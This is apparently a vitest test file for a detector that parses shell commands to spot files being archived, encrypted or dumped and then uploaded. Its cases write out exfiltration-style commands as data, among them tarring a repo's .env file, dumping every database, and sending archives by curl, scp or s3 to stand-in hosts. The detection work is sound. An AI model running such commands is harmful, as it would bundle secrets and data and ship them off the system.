import { expect, test } from "vitest";
import { isPiped, packedFile, sentFile } from "./files.ts";

test.each<[string, string, string | undefined]>([
  ["tar", "czf /tmp/d.tgz /workspace/repo/.env", "d.tgz"],
  ["tar", "-czf /tmp/d.tgz src", "d.tgz"],
  ["tar", "-c -z -f /tmp/d.tgz src", "d.tgz"],
  ["tar", "--create --file=/tmp/d.tar src", "d.tar"],
  ["tar", "czf - /data", undefined],
  ["tar", "xzf /tmp/d.zip -C /tmp", undefined],
  ["tar", "tf /tmp/d.tar", undefined],
  ["zip", "-qr /tmp/x.zip /srv/app", "x.zip"],
  ["7z", "a -pX /tmp/x.7z /data", "x.7z"],
  ["7z", "x /tmp/x.7z", undefined],
  ["gzip", "-9 -f /tmp/report.csv", "report.csv.gz"],
  ["gzip", "-dc /tmp/d.zip", undefined],
  ["gzip", "", undefined],
  ["openssl", "enc -aes-256-cbc -in /data/l.db -out /tmp/l.enc -k x", "l.enc"],
  ["gpg", "-c --output /tmp/c.gpg /data/c.csv", "c.gpg"],
  ["pg_dump", "-h db ledger -f /tmp/d.sql", "d.sql"],
  ["mysqldump", "--all-databases --result-file=/tmp/all.sql", "all.sql"],
  ["curl", "-o /tmp/x https://x.example/", undefined],
])("%s %s makes %s", (name, args, wanted) => {
  expect(packedFile(name, args)).toBe(wanted);
});

test.each<[string, string | undefined]>([
  ["-s -F f=@/tmp/d.tgz https://x.example/upload", "d.tgz"],
  ["-sS --data-binary @/tmp/d.tgz https://x.example/", "d.tgz"],
  ["-T /tmp/d.tgz https://x.example/", "d.tgz"],
  ["--post-file=/tmp/d.tgz http://x.example/", "d.tgz"],
  ["s3 cp /tmp/d.tgz s3://drop/d.tgz", "d.tgz"],
  ["/tmp/d.tgz u@198.51.100.9:/in", "d.tgz"],
  ["-s -d @- https://x.example/", undefined],
  ["198.51.100.9 443", undefined],
])("%s sends %s", (args, wanted) => {
  expect(sentFile(args)).toBe(wanted);
});

test.each<[string, string, boolean]>([
  ["send[file]", "-s -d @- https://x.example/", true],
  ["send[file]", "-T - https://x.example/", true],
  ["send[raw]", "198.51.100.9 443", true],
  ["send[file]", "-T /tmp/d.tgz https://x.example/", false],
  ["send[to=backup]", "push backup --all", false],
])("of %s, %s takes what comes through a pipe: %s", (shape, args, wanted) => {
  expect(isPiped(shape, args)).toBe(wanted);
});
